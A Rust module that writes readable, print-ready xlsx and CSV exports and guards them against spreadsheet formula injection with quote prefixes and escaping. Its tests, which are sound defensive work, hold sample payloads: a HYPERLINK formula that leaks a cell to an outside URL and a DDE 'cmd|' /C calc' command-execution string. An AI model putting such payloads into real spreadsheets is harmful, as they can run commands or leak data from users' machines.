//! Spreadsheets and CSV for office staff, written one way for every file the appliance makes
//! (the bundle's results.xlsx, the account lists): readable as opened — a bold frozen header,
//! columns fitted to their content (a CJK character counts two), long text wrapped, A4
//! landscape fit to the page width when printed — and safe when edited: every text cell is
//! text with a quote prefix, so a name or opinion that starts with `=`, `+`, `-` or `@` never
//! becomes a live formula when a clerk presses F2 and Enter. The stored values are unchanged.

use crate::error::{Error, Result};
use rust_xlsxwriter::{Format, FormatAlign, FormatBorder, Workbook};

pub enum Cell {
    /// Text on one line.
    Text(String),
    /// Text that wraps in a readable width (opinions, reasons).
    Long(String),
    /// A number (vote counts).
    Num(f64),
}

/// Width units of a text: a CJK character is two (the writer's own autofit counts it as one,
/// and headers overlapped).
pub fn units(t: &str) -> f64 {
    t.chars().map(|ch| if ch.is_ascii() { 1.1 } else { 2.1 }).sum::<f64>() + 2.0
}

/// Adds one worksheet named `name` with a header row and `rows`.
pub fn add_sheet(wb: &mut Workbook, name: &str, head: &[&str], rows: Vec<Vec<Cell>>) -> Result<()> {
    let e = Error::internal;
    let bold = Format::new().set_bold().set_border_bottom(FormatBorder::Thin);
    let text = Format::new().set_num_format("@").set_quote_prefix().set_align(FormatAlign::Top);
    let wrapped = text.clone().set_text_wrap();
    let number = Format::new().set_align(FormatAlign::Top);
    let ws = wb.add_worksheet();
    ws.set_name(name).map_err(e)?;
    let mut widths: Vec<f64> = head.iter().map(|h| units(h)).collect();
    for (c, h) in head.iter().enumerate() {
        ws.write_string_with_format(0, c as u16, *h, &bold).map_err(e)?;
    }
    let mut wraps = vec![false; head.len()];
    for (r, row) in (1u32..).zip(rows) {
        for (c, cell) in row.into_iter().enumerate() {
            let w = match &cell {
                Cell::Text(t) | Cell::Long(t) => units(t),
                Cell::Num(v) => units(&v.to_string()),
            };
            if let Some(x) = widths.get_mut(c) {
                *x = x.max(w);
            }
            let col = c as u16;
            match cell {
                Cell::Text(t) => ws.write_string_with_format(r, col, t, &text),
                Cell::Long(t) => {
                    if let Some(x) = wraps.get_mut(c) {
                        *x = true;
                    }
                    ws.write_string_with_format(r, col, t, &wrapped)
                }
                Cell::Num(v) => ws.write_number_with_format(r, col, v, &number),
            }
            .map_err(e)?;
        }
    }
    // Wrapped text gets a readable column instead of one endless line.
    for (c, (w, wrap)) in widths.into_iter().zip(wraps).enumerate() {
        let cap = if wrap { 40.0 } else { 60.0 };
        ws.set_column_width(c as u16, w.min(cap)).map_err(e)?;
    }
    ws.set_freeze_panes(1, 0).map_err(e)?;
    ws.set_landscape();
    ws.set_paper_size(9); // A4
    ws.set_print_fit_to_pages(1, 0);
    ws.set_repeat_rows(0, 0).map_err(e)?;
    Ok(())
}

/// A workbook with a fixed creation time, so rebuilding the same content gives the same bytes.
pub fn workbook() -> Result<Workbook> {
    let mut wb = Workbook::new();
    let props = rust_xlsxwriter::DocProperties::new()
        .set_creation_datetime(&rust_xlsxwriter::ExcelDateTime::from_ymd(2000, 1, 1).map_err(Error::internal)?);
    wb.set_properties(&props);
    Ok(wb)
}

/// One CSV field: a leading `=`, `+`, `-`, `@`, tab or CR would start a formula in Excel/WPS
/// and gets a quote prefix; separators, quotes and line breaks are quoted.
pub fn csv_field(s: &str) -> String {
    let s = if s.starts_with(['=', '+', '-', '@', '\t', '\r']) { format!("'{s}") } else { s.to_string() };
    if s.contains([',', '"', '\n', '\r']) {
        format!("\"{}\"", s.replace('"', "\"\""))
    } else {
        s
    }
}

/// A CSV file Excel opens as UTF-8 (BOM) with CRLF rows.
pub fn csv(head: &[&str], rows: &[Vec<&str>]) -> Vec<u8> {
    let mut out = String::from("\u{feff}");
    out.push_str(&head.iter().map(|h| csv_field(h)).collect::<Vec<_>>().join(","));
    out.push_str("\r\n");
    for row in rows {
        out.push_str(&row.iter().map(|f| csv_field(f)).collect::<Vec<_>>().join(","));
        out.push_str("\r\n");
    }
    out.into_bytes()
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    /// One part of an xlsx (a zip) as text.
    pub(crate) fn part(xlsx: &[u8], name: &str) -> String {
        let mut z = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
        let mut s = String::new();
        std::io::Read::read_to_string(&mut z.by_name(name).unwrap(), &mut s).unwrap();
        s
    }

    #[test]
    fn formula_like_text_stays_text_and_the_sheet_prints_readably() {
        let hostile = "=HYPERLINK(\"http://x/?\"&A1,\"点我\")";
        let mut wb = workbook().unwrap();
        let rows = vec![vec![Cell::Text(hostile.into()), Cell::Long("+1+cmd|' /C calc'!A0".into()), Cell::Num(3.0)]];
        add_sheet(&mut wb, "表", &["姓名", "评委会评议", "同意票数"], rows).unwrap();
        let bytes = wb.save_to_buffer().unwrap();
        use calamine::{Data, Reader};
        let mut book = calamine::Xlsx::new(std::io::Cursor::new(bytes.clone())).unwrap();
        let range = book.worksheet_range("表").unwrap();
        assert_eq!(range.get_value((1, 0)), Some(&Data::String(hostile.into())), "the value unchanged");
        assert_eq!(range.get_value((1, 2)), Some(&Data::Float(3.0)));
        assert!(part(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""));
        let ws = part(&bytes, "xl/worksheets/sheet1.xml");
        assert!(
            ws.contains("state=\"frozen\"")
                && ws.contains("orientation=\"landscape\"")
                && ws.contains("fitToPage=\"1\"")
        );
        assert!(!ws.contains("<f>"), "no formula anywhere");
        let again = {
            let mut wb = workbook().unwrap();
            add_sheet(&mut wb, "表", &["姓名", "评委会评议", "同意票数"], vec![vec![Cell::Text(hostile.into())]])
                .unwrap();
            wb.save_to_buffer().unwrap()
        };
        assert_eq!(part(&again, "docProps/core.xml"), part(&bytes, "docProps/core.xml"), "a fixed creation time");
    }

    #[test]
    fn csv_neutralises_formulas_and_quotes() {
        let text = String::from_utf8(csv(&["a"], &[vec!["=cmd", "a,b", "p\"q", "\tx", "-1"]])).unwrap();
        assert!(text.starts_with('\u{feff}'));
        for want in ["'=cmd", "\"a,b\"", "\"p\"\"q\"", "'\tx", "'-1"] {
            assert!(text.contains(want), "{want} in {text}");
        }
    }
}
